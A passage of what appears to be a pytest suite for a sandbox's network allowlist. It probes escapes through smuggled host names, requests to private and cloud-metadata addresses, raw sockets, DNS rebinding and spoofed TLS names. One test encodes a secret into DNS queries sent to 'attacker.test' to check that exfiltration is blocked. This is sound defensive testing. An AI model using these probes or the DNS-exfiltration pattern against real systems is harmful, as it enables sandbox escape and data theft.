"""Rows 1 to 14, 17 and 18: ways out of a list of domains. What was reached is seen in the rig's log, and each probe reaches its end where a rule allows it.

Rows, or parts of them, that do not apply:

3, environment variables that nobody enforces: there are none to honour. Here: raw connections, and machines that can't make the network.
6, a reload: a policy is read once. Here: a sandbox's verdicts while others, with other rules, start and end beside it; and while its own rules are changed.
11, Host against SNI, HTTP/2's :authority: they are within TLS, which is not opened. A server that has several names can be asked for each once one is allowed.
    Encrypted ClientHello: its outer name is judged as any other is, and the inner one can't be seen.
13, what follows an upgrade or a tunnel: bytes to the one server that was allowed. Here: that they lead to no other one.
14, paths: there are no rules about them. Here: that they arrive as they were sent.
15, 16: there are no credentials to give away, and no rules about methods.
"""

from __future__ import annotations

import contextlib
import ipaddress
import itertools
import json
import pathlib
import shutil
import socket
import subprocess
from collections.abc import Callable
from typing import Any

import pytest
from rig import Rig
from rig.net import Net
from support import Cli, Result, host, need

pytest_plugins = ["rig.fixtures"]

GONE = {"refused", "reset", "closed", "unknown", "EPERM", "EACCES", "ENETUNREACH", "EHOSTUNREACH", 0}
"""What a refusal looks like; a time-out is none."""


def host_addresses() -> list[str]:
    """Those of this machine's interfaces, but for loopback."""
    found = []
    with contextlib.suppress(OSError):
        lines = pathlib.Path("/proc/net/fib_trie").read_text().splitlines()
        found = [before.split()[-1] for before, line in itertools.pairwise(lines) if "/32 host LOCAL" in line]
    with contextlib.suppress(OSError):
        for line in pathlib.Path("/proc/net/if_inet6").read_text().splitlines():
            found.append(str(ipaddress.ip_address(bytes.fromhex(line.split()[0]))))
    return sorted({text for text in found if not ipaddress.ip_address(text).is_loopback})


# Row 1.

NAMES = [
    b"b.example\0.a.example", b"a.example\0.b.example", b"b.example%00.a.example", b"b.example\r\n.a.example", b"b.example .a.example", b" a.example", b"a.example ", b"a.example\n",
    b"b.example#.a.example", b"b.example/.a.example", b"b.example?a.example", b"b.example@a.example", b"b.example\\a.example", b"b.example:80", b"b.example:80.a.example", b"b.example;a.example",
    b"\xff\xfe.a.example", "a\uff0eexample\0".encode(), b"a.example..", b".a.example", b"..", b"*", b"*.a.example", b"x" * 64 + b".a.example",
    b"x." * 123 + b"a.example", b"xn--a.example", b"-a.example", b"a.example\x7f", b"a.example\t",
]


def test_t1_names_with_other_characters_by_socks_and_http(net: Net, rig: Rig) -> None:
    script = """
def both(name):
    connect = by_proxy(b"CONNECT " + name + b":80 HTTP/1.1\\r\\nHost: " + name + b":80\\r\\n\\r\\n", "CONNECT")
    absolute = by_proxy(b"GET http://" + name + b"/ HTTP/1.1\\r\\nHost: " + name + b"\\r\\n\\r\\n")
    return [socks_name(name), connect, absolute]
names = [text.encode("latin-1") for text in given[0]]
show([[repr(name), *both(name)] for name in names])
"""
    control, *got = net.python(script, [name.decode("latin-1") for name in [b"a.example", *NAMES]], allow=["a.example", "*.a.example"]).value
    assert control[1:] == [0, 200, 200]
    assert [row for row in got if row[1] == 0 or 200 in row] == []
    assert {row[1] for row in got} <= {1, 2, -1, "reset"} and {status for row in got for status in row[2:]} <= {400, 403, 0, "reset"}
    rig.assert_untouched("b", "c", names=["a.example"])
    assert len(rig.connections("a")) == 3


# Row 2.

REACH = """
def everything():
    return {"DNS": ask("a.example")[0] == "NOERROR", "HTTP": by_proxy(request("GET", "http://a.example/", host="a.example")) == 200, "CONNECT": connect_status("a.example:80") == 200,
            "SOCKS": socks_name("a.example") == 0, "TCP": get("a.example") == 200, "TLS": tls_status("a.example", "a.example") == 200,
            "address": connect_status("127.77.0.1:80") == 200}
show(everything())
"""
NOTHING = [{"mode": "allowlist", "allow": []}, {"mode": "allowlist"}, {"mode": "allowlist", "deny": ["c.example"]}, {"mode": "allowlist", "allow": ["c.example"], "allow_private": []}]


@pytest.mark.parametrize("network", NOTHING, ids=json.dumps)
def test_t2_an_empty_list_allows_nothing(net: Net, rig: Rig, network: dict[str, Any]) -> None:
    assert set(net.python(REACH, network=network).value.values()) == {False}
    rig.assert_untouched(names=[])
    control = net.python(REACH, network={"mode": "allowlist", "allow": ["a.example"], "allow_private": ["127.77.0.1:80"]}).value
    assert set(control.values()) == {True}


def test_t2_no_list_is_no_network(net: Net, rig: Rig) -> None:
    rules: dict[str, Any]
    for rules in ({}, {"network": {"mode": "none"}}, {"network": {}}):
        assert set(net.python(REACH, **rules).value.values()) == {False}
    rig.assert_untouched(names=[])


# Row 3.


def test_t3_raw_connections_lead_nowhere(net: Net, rig: Rig) -> None:
    # No name was looked up, no proxy was asked. As nothing else names these addresses, it doesn't matter where they are.
    addresses = ["203.0.113.7", "198.51.100.7", "10.0.0.1", "192.168.1.1", "169.254.169.254", "198.18.77.77", "198.19.255.255", "2001:db8::7", "fd53:616e:6479::7777:7777", "fe80::1"]
    script = "show({f'{address} {port}': timed(talk, address, port, b'GET / HTTP/1.0\\r\\n\\r\\n', None, False, 3) for address in given[0] for port in (22, 80, 443, 8080)})"
    got = net.python(script, addresses + host_addresses(), allow=["a.example"])
    assert {place: result for place, (result, _) in got.value.items() if result not in GONE | {"", "EINVAL"}} == {}
    assert {place: seconds for place, (_, seconds) in got.value.items() if seconds > 1} == {}
    assert "203.0.113.7:80" in got.denied
    rig.assert_untouched(names=[])
    assert net.python("show(get('a.example'))", allow=["a.example"]).value == 200


def test_t3_an_address_rule_is_for_that_address_and_port(net: Net, rig: Rig) -> None:
    script = "show([connect_status(target) for target in ('127.77.0.1:80', '127.77.0.1:443', '127.77.0.2:80', '127.77.0.3:7', '127.77.0.3:80', 'a.example:80')])"
    assert net.python(script, allow=["127.77.0.1:80", "127.77.0.2/31:7"]).value == [200, 403, 403, 200, 403, 403]
    assert {(one.host, one.service) for one in rig.connections()} == {("a", "http"), ("c", "echo")}
    assert rig.asked() == set()


def in_namespace(net: Net, settings: str, *argv: str) -> Result:
    """`sandy run` as an ordinary user of a user namespace with limits of its own."""
    inner = f"{settings}; exec unshare --user --map-user=1000 --map-group=1000 \"$@\""
    inside = [net.sandy.program, "run", *net.options(allow=["a.example"]), "--", *argv]
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "sh", "-c", inner, "sh", *inside],
        cwd=net.sandy.workspace, env=net.sandy.env | net.env, capture_output=True, timeout=60, check=False,
    )
    return Result(done.returncode, done.stdout, done.stderr)


@pytest.mark.parametrize("limit", [0, 1])
def test_t3_where_no_network_namespace_can_be_made_nothing_starts(net: Net, rig: Rig, limit: int) -> None:
    need(host("unshare -Ur sh -c 'echo 0 > /proc/sys/user/max_net_namespaces'").status == 0, "a user namespace whose limits can be set")
    control = in_namespace(net, "true", "sh", "-c", "touch started")
    assert control.status == 0 and (net.sandy.workspace / "started").exists(), control
    got = in_namespace(net, f"echo {limit} > /proc/sys/user/max_net_namespaces", "touch", "ran")
    assert limit == 1 or got.status == 125
    if got.status != 0:
        assert got.status == 125 and got.error.startswith("sandy: ") and "network" in got.error and not (net.sandy.workspace / "ran").exists(), got
    rig.assert_untouched(names=[])


def copied(programs: pathlib.Path, directory: pathlib.Path, **replaced: str | None) -> pathlib.Path:
    """The programs, with scripts in place of some (None: without it)."""
    shutil.copytree(programs, directory)
    for name, script in replaced.items():
        path = directory / name.replace("_", "-")
        path.unlink()
        if script is not None:
            path.write_text(f"#!/bin/sh\n{script}\n")
            path.chmod(0o755)
    return directory


@pytest.mark.parametrize("script", [None, "exit 0", "exit 1", "kill -9 $$", "echo ready; exit 0", "exec cat"])
@pytest.mark.parametrize("program", ["sandy_proxy", "sandy_launch"])
def test_t3_without_its_proxy_nothing_starts(
    net: Net, programs: pathlib.Path, home: pathlib.Path, open_directory: pathlib.Path, program: str, script: str | None
) -> None:
    need((programs / program.replace("_", "-")).exists(), program)
    net.sandy = Cli(copied(programs, open_directory / "programs", **{program: script}), home, net.sandy.workspace)
    got = net.run("touch", "ran", allow=["a.example"])
    assert got.status == 125 and got.error.startswith("sandy: ") and not (net.sandy.workspace / "ran").exists(), got


# Row 4, 5.


def test_t4_plain_http_is_judged_as_connect_is(net: Net, rig: Rig) -> None:
    script = """
methods = ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "PROPFIND")
show([[by_proxy(request(method, f"http://{name}/", host=name), method) for method in methods] for name in ("a.example", "b.example")]
     + [by_proxy(request("GET", "http://b.example:443/", host="b.example:443")), by_proxy(request("OPTIONS", "*", host="b.example")), by_proxy(b"GET http://b.example/ HTTP/1.0\\r\\n\\r\\n")])
"""
    allowed, denied, *others = net.python(script, allow=["a.example"]).value
    assert allowed == [200] * 9 and denied == [403] * 9 and all(status in (400, 403) for status in others)
    rig.assert_untouched("b", names=["a.example"])


def test_t5_a_relayed_or_disguised_connect_has_the_same_verdict(net: Net, rig: Rig) -> None:
    script = """
import threading
server = socket.socket(); server.bind(("127.0.0.1", 0)); server.listen()
def pipe(one, other):
    while data := one.recv(65536):
        other.sendall(data)
    other.shutdown(socket.SHUT_WR)
def relay():
    while True:
        one, other = server.accept()[0], dial(*PROXY)
        threading.Thread(target=pipe, args=(one, other), daemon=True).start()
        threading.Thread(target=pipe, args=(other, one), daemon=True).start()
threading.Thread(target=relay, daemon=True).start()
headers = ([], ["User-Agent: curl/8"], ["Proxy-Authorization: Basic eDp5"], ["X-Forwarded-For: 127.0.0.1"], ["X-Forwarded-Host: a.example"], ["Proxy-Connection: keep-alive"], ["Forwarded: host=a.example"])
def verdict(place, name, more):
    data = request("CONNECT", f"{name}:80", *more, host=f"{name}:80")
    return outcome(lambda: http(*place, data, "CONNECT")[0])
show([[verdict(place, name, more) for place in (PROXY, server.getsockname()) for more in headers] for name in ("a.example", "b.example")])
"""
    assert net.python(script, allow=["a.example"]).value == [[200] * 14, [403] * 14]
    rig.assert_untouched("b", names=["a.example"])


# Row 6.


def test_t6_verdicts_stay_while_others_come_and_go(client: Callable[..., Any], rig: Rig) -> None:
    script = """
import threading
box = Sandbox(allow_domains=["a.example"], timeout=60)
seen = {}
def probe():
    out = box.run("for i in $(seq 40); do for n in a b c; do curl -s -m 5 -o /dev/null -w '%{http_code}\\n' http://$n.example/; done; done").stdout.decode().split()
    seen.update({name: sorted(set(out[at::3])) for at, name in enumerate("abc")})
thread = threading.Thread(target=probe)
thread.start()
others = []
for number in range(8):
    with Sandbox(allow_domains=["b.example", "c.example"][number % 2:], timeout=30) as other:
        others.append(other.run("curl -s -o /dev/null -w '%{http_code}' http://c.example/").stdout.decode())
thread.join()
show([seen, others])
"""
    need(shutil.which("curl"), "curl")
    seen, others = client(script)
    assert seen == {"a": ["200"], "b": ["000"], "c": ["000"]} and others == ["200"] * 8


def test_t6_rules_that_are_changed_while_it_runs(client: Callable[..., Any], api: type, rig: Rig) -> None:
    if not hasattr(api, "deny_domain"):
        pytest.skip("in this version the rules of a running sandbox can't be changed")
    script = """
box = Sandbox(allow_domains=["a.example"], deny_domains=["c.example"], timeout=30)
def codes():
    return box.run("for n in a b c; do curl -s -m 5 -o /dev/null -w '%{http_code} ' http://$n.example/; done").stdout.decode().split()
out = [codes()]
box.allow_domain("b.example"); out.append(codes())
for wrong in ("*", "*.com", "http://c.example", "c.example c.example", "10.0.0.1"):
    try:
        box.allow_domain(wrong)
        out.append("taken")
    except Exception as error:
        out.append(type(error).__name__)
out.append(codes())
box.deny_domain("a.example"); out.append(codes())
box.allow_domain("c.example"); out.append(codes())  # ends an equal denial
show(out)
"""
    first, second, *errors, third, fourth, fifth = client(script)
    assert (first, second) == (["200", "000", "000"], ["200", "200", "000"]) and "taken" not in errors
    assert third == second and fourth == ["000", "200", "000"] and fifth == ["000", "200", "200"]


# Row 7.


def test_t7_the_proxys_ports_are_its_own_at_its_address_alone(net: Net, rig: Rig) -> None:
    # And a rule for a port is for one name.
    script = """
head = request("CONNECT", "a.example:80", host="a.example:80")
show([outcome(http, *PROXY, head, "CONNECT"), [timed(talk, address, port, head, None, False, 3) for address in ("203.0.113.7", "198.18.0.2", "198.18.0.3", "198.18.5.5", "127.0.0.1") for port in (3128, 1080)],
      connect_status("b.example:3128"), connect_status("198.18.0.1:3128"), connect_status("198.18.0.1:53")])
"""
    own, others, name, itself, resolver = net.python(script, allow=["a.example", "a.example:3128"]).value
    assert own[0] == 200 and all(result in GONE | {""} and seconds < 1 for result, seconds in others)
    assert (name, itself, resolver) == (403, 403, 403)
    rig.assert_untouched("b", "private", names=["a.example"])


# Row 8.

DATAGRAMS = """
import os
def datagram(address, port):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(b"probe", (address, port))
        sock.connect((address, port))
        sock.send(b"again")
        return sock.recv(100) and "answered"
def made(family, kind, protocol):
    with socket.socket(family, kind, protocol) as sock:
        sock.settimeout(1)
        if family == socket.AF_PACKET:
            sock.bind(("eth0", 0))
            sock.send(bytes(60))
        elif protocol:
            sock.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("203.0.113.7" if family == socket.AF_INET else "2001:db8::7", 0))
            return sock.recv(100) and "answered"
        return "made"
"""


def test_t8_udp_other_than_dns_fails_at_once(net: Net, rig: Rig) -> None:
    places = [(address, port) for address in ("203.0.113.7", "198.18.0.1", "198.18.9.9", "10.0.0.1", "2001:db8::7", "fd53:616e:6479::1", "224.0.0.251", "255.255.255.255", "198.19.255.255")
              for port in (443, 123, 5353, 3128, 54)] + [(address, 443) for address in host_addresses() if not address.startswith("fe80")]
    script = DATAGRAMS + "show({f'{address} {port}': timed(datagram, address, port) for address, port in given[0]})"
    got = net.python(script, places, allow=["a.example"]).value
    assert {place: result for place, (result, seconds) in got.items() if result not in GONE | {"EINVAL", "EADDRNOTAVAIL"} or seconds > 0.5} == {}
    # The control: between the sandbox's own processes they pass.
    own = """
one = socket.socket(type=socket.SOCK_DGRAM); one.bind(("127.0.0.1", 0)); one.settimeout(2)
other = socket.socket(type=socket.SOCK_DGRAM); other.sendto(b"x", one.getsockname())
show(one.recv(10).decode())
"""
    assert net.python(own, allow=["a.example"]).value == "x"
    rig.assert_untouched(names=[])


def test_t8_no_icmp_raw_or_packet_sockets(net: Net) -> None:
    kinds = ["AF_INET SOCK_DGRAM IPPROTO_ICMP", "AF_INET6 SOCK_DGRAM IPPROTO_ICMPV6", "AF_INET SOCK_RAW IPPROTO_ICMP", "AF_INET SOCK_RAW IPPROTO_RAW", "AF_INET6 SOCK_RAW IPPROTO_ICMPV6",
             "AF_INET SOCK_STREAM IPPROTO_SCTP", "AF_PACKET SOCK_RAW 768", "AF_PACKET SOCK_DGRAM 768"]
    script = DATAGRAMS + "show([[kind, *timed(made, *(getattr(socket, word) if word[0].isalpha() else int(word) for word in kind.split()))] for kind in given[0]])"
    got = net.python(script, kinds, allow=["a.example"]).value
    assert [row for row in got if row[1] in ("made", "answered", "timeout") or row[2] > 0.5] == []


def test_t8_the_sandbox_cannot_change_its_network(net: Net) -> None:
    # Its interfaces, routes and rules belong to a namespace above its own.
    script = """
import fcntl, struct
def ioctl(number):
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        fcntl.ioctl(sock, number, struct.pack("16sH22x", b"eth0", 0))
        return "done"
def netlink(protocol, kind, body=b""):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as sock:
        sock.settimeout(1)
        sock.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
        answer = sock.recv(65536)
        code = struct.unpack_from("=i", answer, 16)[0] if struct.unpack_from("=H", answer, 4)[0] == 2 else 1
        if code < 0:
            raise OSError(-code, "")
        return "done"
def transparent():
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_IP, 19, 1)
        return "done"
show({"down": outcome(ioctl, 0x8914), "address": outcome(ioctl, 0x8916), "link": outcome(netlink, 0, 16, bytes(16)), "route": outcome(netlink, 0, 24, bytes(12)),
      "nftables": outcome(netlink, 12, 10 << 8, bytes(4)), "transparent": outcome(transparent)})
"""
    got = net.python(script, allow=["a.example"]).value
    assert "done" not in got.values() and set(got.values()) <= {"EPERM", "EACCES", "EAFNOSUPPORT", "EPROTONOSUPPORT", "EINVAL", "ENODEV", "EOPNOTSUPP", "timeout"}, got
    script = "ip link set eth0 down; ip route add default via 198.18.0.3; ip addr add 198.18.0.9/15 dev eth0; ip link add x type dummy; nft flush ruleset; true"
    before = net.sh("cat /proc/net/route /proc/net/dev | sed 's/:.*//'", allow=["a.example"]).text
    assert net.sh(f"{script}; cat /proc/net/route /proc/net/dev | sed 's/:.*//'", allow=["a.example"]).text.endswith(before)


def test_t8_another_source_address_changes_no_verdict(net: Net, rig: Rig) -> None:
    script = """
def bound(source, address):
    with socket.socket() as sock:
        sock.settimeout(3)
        sock.bind((source, 0))
        sock.connect((address, 80))
        sock.sendall(request("GET", "/", "Connection: close", host="a.example"))
        return received(sock)[:12].decode()
show([[outcome(bound, source, address) for source in (OWN, "0.0.0.0", "198.18.0.1", "198.18.0.3", "203.0.113.1", "127.0.0.1")] for address in (ask("a.example")[1][0], "203.0.113.7")])
"""
    listed, unlisted = net.python(script, allow=["a.example"]).value
    wrong = GONE | {"EADDRNOTAVAIL", "EINVAL", ""}
    assert listed[:2] == ["HTTP/1.1 200"] * 2 and all(word in wrong | {"HTTP/1.1 200"} for word in listed) and all(word in wrong for word in unlisted)


# Row 9. B056 in tests/integration/test_dns.py has more of this.


def test_t9_no_name_carries_anything_out(net: Net, rig: Rig) -> None:
    script = r"""
secret = "".join(f"{byte:02x}" for byte in b"the secret of this sandbox")[:60]
for name in (f"{secret}.b.example", f"{secret}.attacker.test", f"{secret}.a.example", f"x.{secret}"):
    for kind in ("A", "AAAA", "TXT", "NULL", "MX", "CNAME", "SRV", "HTTPS", "ANY", "PTR"):
        for over in (udp, tcp):
            for more in ({}, {"edns": 4096}):
                ask(name, kind, over=over, **more)
                ask(name, kind, over=over, server=("203.0.113.53", 53), **more)
    for url in (f"http://{name}/", f"http://{name}:8080/{secret}"):
        by_proxy(request("GET", url, host=url.split("/")[2]))
    connect_status(f"{name}:443"); socks_name(name); get(name); outcome(socket.getaddrinfo, name, 80)
reverse = ".".join(secret[:32]) + ".ip6.arpa"
show([ask(reverse, "PTR")[0], ask("4.3.2.1.in-addr.arpa", "PTR")[0], get("a.example")])
"""
    got = net.python(script, allow=["a.example"])
    assert got.value == ["NXDOMAIN", "NXDOMAIN", 200]
    rig.assert_untouched("b", "c", names=["a.example"])
    assert {query.type for query in rig.dns.queries} <= {"A", "AAAA"}


def test_t9_what_is_asked_for_an_allowed_name_is_that_name(net: Net, rig: Rig) -> None:
    # Not what a client writes with it: no letter's case, no option, no type; nor how often.
    script = """
for n in range(200):
    ask("".join(letter.upper() if n >> at & 1 else letter for at, letter in enumerate("a.example")), ("A", "TXT", "AAAA")[n % 3], edns=512 + n)
show(by_proxy(request("GET", "http://A.eXaMPLE/", host="A.eXaMPLE")))
"""
    assert net.python(script, allow=["a.example"]).value == 200
    assert {query.name for query in rig.dns.queries} == {"a.example"} and len(rig.dns.queries) <= 4


# Row 10.

NOT_PUBLIC = [
    "127.0.0.1", "127.78.0.1", "0.0.0.0", "10.0.0.1", "100.64.0.1", "169.254.169.254", "172.16.0.1", "192.168.0.1", "192.0.0.8", "198.18.0.1", "198.18.0.5", "224.0.0.1", "255.255.255.255",
    "::", "::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "64:ff9b:1::7f00:1", "2002:7f00:1::", "2002:a00:1::1", "2001:0:7f00:1::1",
    "fe80::1", "fe80::5efe:7f00:1", "fc00::1", "fd53:616e:6479::1", "fd00:ec2::254", "fec0::1", "ff02::1",
]


def test_t10_a_name_that_leads_to_no_public_address_is_not_dialled(net: Net, rig: Rig) -> None:
    addresses = [*NOT_PUBLIC, *host_addresses()]
    for number, address in enumerate(addresses):
        rig.dns.set(f"n{number}.w.example", address)
    script = """
show([[address, timed(get, f"n{number}.w.example"), timed(socks_name, f"n{number}.w.example", 443), connect_status(f"n{number}.w.example:443"),
       by_proxy(request("GET", f"http://n{number}.w.example/", host=f"n{number}.w.example"))] for number, address in enumerate(given[0])] + [get("good.w.example")])
"""
    rig.dns.set("good.w.example", "127.77.0.1")
    got = net.python(script, addresses, allow=["*.w.example"])
    *rows, control = got.value
    assert control == 200
    wrong = [row for row in rows if row[1][0] not in GONE | {403, 502} or row[1][1] > 1 or row[2][0] in (0, "timeout") or row[3] not in (403, 502) or row[4] not in (403, 502)]
    assert wrong == []
    reasons = {denial["target"]: denial["reason"] for denial in got.denials}
    assert [address for number, address in enumerate(addresses) if f"n{number}.w.example:80" not in reasons and f"n{number}.w.example:443" not in reasons][32:] == []
    rig.assert_untouched("private", "private6", "outside", "b", "c")


@pytest.mark.parametrize("answers", [["127.77.0.1", "127.0.0.1"], ["127.0.0.1", "127.77.0.1"], ["127.0.0.1", "::1", "127.77.0.1", "10.0.0.1"]])
def test_t10_of_several_addresses_only_public_ones_are_dialled(net: Net, rig: Rig, answers: list[str]) -> None:
    rig.dns.set("mixed.example", *answers)
    # Where there is one that is public it may be taken; or the name is refused as a whole.
    got = net.python("show([get('mixed.example') for _ in range(5)])", allow=["mixed.example"]).value
    assert got in ([200] * 5, *([word] * 5 for word in GONE | {403, 502}))
    rig.assert_untouched("private", "private6", "outside", "b", "c")


@pytest.mark.parametrize("target", ["127.0.0.1", "127.78.0.1", "169.254.169.254"])
def test_t10_the_address_that_was_checked_is_the_one_that_is_dialled(net: Net, rig: Rig, target: str) -> None:
    # The name has a public address when it is first asked for, and then another: also within one connection's making.
    rig.dns.rounds("turn.example", ["127.77.0.1"], [target])
    script = "show([get('turn.example'), get('turn.example'), by_proxy(request('GET', 'http://turn.example/', host='turn.example')), socks_name('turn.example')])"
    first, *later = net.python(script, allow=["turn.example"]).value
    assert first == 200
    hosts = {connection.host for connection in rig.connections()}
    assert hosts == {"a"} and all(status in GONE | {200, 403, 502, 2, 4, 1} for status in later)
    # What was made while the name was public goes there; without a cache all later ones are refused.
    asked = [query for query in rig.dns.queries if query.type == "A"]
    assert len(asked) == 1 or not any(status in (200, 0) for status in later[:2])


def test_t10_the_synthetic_address_is_no_way_around_the_check(net: Net, rig: Rig) -> None:
    # A name whose public answer is a synthetic address of this very sandbox, or the gateway's.
    script = """
address = ask("a.example")[1][0]
show([address, get("back.example"), by_proxy(request("GET", "http://back.example/", host="back.example")), connect_status("back.example:443")])
"""
    rig.dns.set("back.example", "198.18.1.0", "198.18.0.1", "fd53:616e:6479::100")
    _, *got = net.python(script, allow=["a.example", "back.example"]).value
    assert 200 not in got and "timeout" not in got
    rig.assert_untouched()


# Row 11.

SNI = """
listed = [
    tls_status("a.example", "a.example"), tls_status("a.example", None), tls_status("a.example", "A.eXaMpLe"),
    tls_status("a.example", "a.example", step=1), tls_status("a.example", "a.example", step=100), tls_status("a.example", "a.example", change=lambda data: records(data, 1)),
    tls_status("a.example", "a.example", change=lambda data: records(data, 7), step=11), tls_status("a.example", "a.example", protocols=["http/1.1"] + [f"made-up-{n:030}" for n in range(60)]),
]
def spoofed(open_, other, **rest):
    def run():
        with open_() as sock:
            return https(sock, other, **rest)
    return outcome(run)
pieces = [{"step": 1}, {"change": lambda data: records(data, 9)}, {"change": lambda data: records(data, 9), "step": 5}, {"protocols": ["http/1.1"] + [f"made-up-{n:030}" for n in range(60)]}]
def by_socks():
    reply, sock = socks(socks_request(3, b"a.example", 443))
    assert reply == 0, reply
    return sock
ways = {"direct": lambda: dial("a.example", 443), "CONNECT": lambda: tunnel("a.example:443"), "SOCKS": by_socks}
show([listed, {way: [spoofed(open_, other) for other in ("b.example", "c.example", "x.a.example", "xa.example", "front.example")] + [spoofed(open_, "b.example", **rest) for rest in pieces]
               for way, open_ in ways.items()}])
"""


def test_t11_the_name_in_tls_is_the_one_that_was_allowed(net: Net, rig: Rig) -> None:
    listed, spoofed = net.python(SNI, allow=["a.example", "c.example"]).value
    assert listed == [200] * 8, "ClientHellos in any pieces, of any size, and without a name"
    names = {connection.server_name for connection in rig.connections("a", service="https") if connection.hello}
    assert {name.lower() if name else name for name in names} == {"a.example", None}
    # Refused: with an alert, a reset or an end; and no byte of the ClientHello arrived.
    wrong = {way: statuses for way, statuses in spoofed.items() if any(not isinstance(status, str) or status in ("timeout", "unknown") for status in statuses)}
    assert wrong == {}
    assert len([connection for connection in rig.connections() if connection.hello]) == 8
    rig.assert_untouched("b", "c", names=["a.example"])


def test_t11_a_denied_name_in_tls_is_told(net: Net) -> None:
    got = net.python("show(tls_status('a.example', 'b.example'))", allow=["a.example"])
    assert got.value != 200
    assert [denial for denial in got.denials if "b.example" in denial["target"] + denial["reason"]], got.denials


def test_t11_names_in_tls_that_are_none(net: Net, rig: Rig) -> None:
    # Letters of the name replaced within the message: a NUL, a space, an address, no dot.
    script = """
def changed(new):
    return tls_status("a.example", "a.example", change=lambda data: data.replace(b"a.example", new))
show([changed(new.encode("latin-1")) for new in ("a.example", "a\\0example", "a.exampl ", "127.0.0.1", "aaexample", "a.exampl.", "\\xffaexample", "*.example", "b.example")])
"""
    control, *got = net.python(script, allow=["a.example"]).value
    assert control == 200 and all(isinstance(status, str) and status != "timeout" for status in got), got
    assert len([connection for connection in rig.connections() if connection.hello]) == 1


def test_t11_a_second_connection_within_is_the_servers(net: Net, rig: Rig) -> None:
    # Within the tunnel's TLS a name can be written that differs (Host, :authority): it reaches the allowed server, and no other.
    script = "show(tls_status('a.example', 'a.example', written='b.example'))"
    assert net.python(script, allow=["a.example"]).value == 200
    rig.assert_untouched("b", "c", names=["a.example"])


# Row 12.

ALLOWED = ["example.com", "*.w.example", "bücher.example"]
VERDICTS = {
    "example.com": True, "EXAMPLE.com": True, "example.com.": True, "x.w.example": True, "a.b.w.example": True, "xn--bcher-kva.example": True, "127.77.0.1": True,
    "notexample.com": False, "evilexample.com": False, "example.com.evil.test": False, "x.example.com": False, "w.example": False, "xw.example": False, "x.w.example.evil.test": False,
    ".w.example": False, "..w.example": False, "*.w.example": False, "example.com..": False, "example.co": False, "xample.com": False, "com": False, "bcher.example": False,
    "example\u3002com": True, "example\uff0ecom": True, "e\u0445ample.com": False, "\u24d4xample.com": True,
    "::1%x.example.com": False, "[::1%25x.w.example]": False, "2130706433": False, "0x7f4d0001": False, "017723200001": False, "127.77.1": False, "0177.77.0.1": False, "127.77.0.01": False,
    "127.77.0.1.": False, "127.77.0.1.example.com": False, "[::ffff:127.77.0.1]": False, "evil.test:443.example.com": False, "example.com:80.evil.test": False, "x_y.w.example": True, "-x.w.example": False,
}


def test_t12_b039_what_a_rule_matches(net: Net, rig: Rig) -> None:
    # The names as UTF-8, as a client that doesn't know better sends them; other forms of one name are that name or are refused, and never another one.
    rig.dns.set("example.com", "127.77.0.1")
    rig.dns.set("*.w.example", "127.77.0.1")
    rig.dns.set("xn--bcher-kva.example", "127.77.0.1")
    script = """
def raw(name):
    return by_proxy(b"CONNECT " + name + b":80 HTTP/1.1\\r\\nHost: " + name + b":80\\r\\n\\r\\n", "CONNECT")
show({name: [raw(name.encode()), socks_name(name.encode())] for name in given[0]})
"""
    got = net.python(script, list(VERDICTS), allow=ALLOWED, private=["127.77.0.1:80"]).value
    unicode = {name for name in VERDICTS if VERDICTS[name] and not name.isascii()}
    assert {name: result for name, result in got.items() if VERDICTS[name] and name not in unicode and result != [200, 0]} == {}
    assert {name: result for name, result in got.items() if not VERDICTS[name] and (result[0] not in (400, 403) or result[1] in (0, "timeout"))} == {}
    assert {name: result for name, result in got.items() if name in unicode and result[0] not in (200, 400)} == {}
    rig.assert_untouched("b", "c", "private", names=["example.com", "x.w.example", "a.b.w.example", "x_y.w.example", "xn--bcher-kva.example"])


REFUSED_RULES = [
    "*", "*.", "*.com", "*.co.uk", "*.*.w.example", "a.*.example", "*example", "w.*", "http://example.com", "example.com/", "example.com/path", "user@example.com", " example.com ", "example.com\n", "exa mple.com",
    "example.com:", "example.com:0", "example.com:65536", "example.com:x", "example.com:80:80", "example.com:080", "::1%lo", "[fe80::1%eth0]:80", "2130706433:80", "0x7f000001:80", "0177.0.0.1:80", "127.1:80",
    "127.0.0.1", "10.0.0.0/8", "10.0.0.1/8:80", "[::1]", "-a.example", "a..example", ".example.com", "x" * 64 + ".example", "", ".", "[a.example]:80", "exa\u200bmple.com:99999", "a\u2024b.example/",
]


@pytest.mark.parametrize("rule", REFUSED_RULES)
def test_t12_b039_a_rule_that_is_none_is_refused_with_its_text(sandy: Cli, tmp_path: pathlib.Path, rule: str) -> None:
    # By the file's check, which starts nothing; it is the same for flags.
    policy = tmp_path / "policy.json"
    policy.write_text(json.dumps({"version": 1, "network": {"mode": "allowlist", "allow": ["example.com", rule]}}))
    got = sandy.call("check", policy)
    assert got.status != 0 and "network.allow[1]" in got.error + got.text, got
    if rule.isprintable() and rule.isascii() and rule:
        assert rule in got.error + got.text


def test_t12_b039_a_wrong_flag_starts_nothing(net: Net) -> None:
    wrong: list[dict[str, Any]] = [
        {"allow": ["*.com"]}, {"allow": ["a.example"], "deny": ["http://x"]}, {"allow": ["a.example"], "private": ["10.0.0.0/8:80"]},
        {"private": ["*.corp.test:80"]}, {"private": ["db.test"]},
    ]
    for options in wrong:
        got = net.run("touch", "ran", **options)
        assert got.status == 125 and not (net.sandy.workspace / "ran").exists(), options


# Row 13.


def test_t13_what_follows_an_upgrade_leads_to_no_other_host(net: Net, rig: Rig) -> None:
    script = """
def bytes_behind(sock, target):
    with sock:
        client = Http(sock)
        status = client.ask(request("GET", target, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", host="a.example"))[0]
